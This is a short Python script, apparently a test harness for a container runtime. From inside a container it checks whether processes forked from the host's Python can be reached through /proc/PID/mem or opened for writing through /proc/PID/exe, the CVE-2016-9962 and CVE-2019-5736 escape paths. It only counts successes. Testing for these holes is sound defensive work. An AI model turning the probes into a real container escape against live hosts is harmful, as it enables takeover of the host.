"""Run inside a container: attack every process that is still a copy of the host's Python.

A process joining a container is forked from the host's Python process; until it executes
its program it carries that image and its memory. For argv[1] seconds, try to get ptrace
access to each such process (opening /proc/PID/mem takes exactly ptrace-attach rights, without
stopping anything) and to open its /proc/PID/exe for writing (the CVE-2016-9962 and
CVE-2019-5736 classes). Prints: candidates seen, successful attaches, successful opens.
"""

import os
import sys
import time

deadline = time.monotonic() + float(sys.argv[1])
me = os.getpid()
candidates = attached = opened = 0
while time.monotonic() < deadline:
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (me, 1):
            continue
        pid = int(name)
        try:
            with open(f"/proc/{pid}/comm") as f:
                if not f.read().startswith("python"):
                    continue
        except OSError:
            continue
        candidates += 1
        try:
            mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            pass
        else:
            try:  # a success only counts if the target was still the host's Python
                if "python" in os.readlink(f"/proc/{pid}/exe"):
                    attached += 1
            except OSError:
                pass
            os.close(mem)
        try:
            os.close(os.open(f"/proc/{pid}/exe", os.O_WRONLY))
            opened += 1
        except OSError:
            pass
print(candidates, attached, opened, flush=True)
